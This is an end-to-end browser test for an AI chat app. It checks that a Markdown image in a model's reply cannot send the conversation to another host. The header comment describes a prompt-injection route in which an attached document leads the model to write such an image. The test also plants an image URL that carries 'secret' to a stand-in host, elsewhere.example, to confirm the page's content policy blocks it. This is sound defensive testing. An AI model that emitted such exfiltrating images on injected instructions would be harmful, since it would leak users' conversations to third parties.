import { expect, test } from '@playwright/test';
import { exfiltrationQuestion } from '../../src/server/test/model-scripts';
import { signUpViaApi } from './support/accounts';
import { modelAppUrl } from './support/ports';

// Text a model read (an attached document) can make it write an image whose address carries
// the conversation elsewhere. The reply renderer shows no such image, and the page's img-src
// refuses other hosts even if something did put one in the page.
test.use({ baseURL: modelAppUrl });

test('a reply’s Markdown image to another host fetches nothing', async ({ page }) => {
  const elsewhere: string[] = [];
  const answered: string[] = [];
  const refused: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('elsewhere.example')) elsewhere.push(request.url());
  });
  page.on('response', (response) => {
    if (response.url().includes('elsewhere.example')) answered.push(response.url());
  });
  page.on('requestfailed', (request) => {
    if (request.url().includes('elsewhere.example')) refused.push(request.failure()!.errorText);
  });
  await signUpViaApi(page.context().request, modelAppUrl);
  await page.goto('/dashboard');
  await expect(page.locator('html[data-hydrated]')).toBeAttached();
  const input = page.getByLabel('Describe your project or ask a question');
  await input.fill(exfiltrationQuestion);
  await input.press('Enter');

  const conversation = page.getByRole('list', { name: 'Conversation' });
  await expect(conversation.getByText('[image: x]')).toBeVisible();
  await expect(conversation.locator('img[src*="elsewhere"]')).toHaveCount(0);
  expect(elsewhere).toEqual([]);

  // Were an image element to get into the page anyway, the policy stops its request before it
  // leaves the browser.
  const blocked = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) =>
          resolve(`${event.violatedDirective} ${event.blockedURI}`),
        );
        setTimeout(() => resolve('no policy violation'), 5000);
        const img = document.createElement('img');
        img.src = 'https://elsewhere.example/p.png?d=secret';
        document.body.append(img);
      }),
  );
  expect(blocked).toBe('img-src https://elsewhere.example/p.png?d=secret');
  await expect.poll(() => refused).toEqual(['csp']);
  expect(answered).toEqual([]);
});
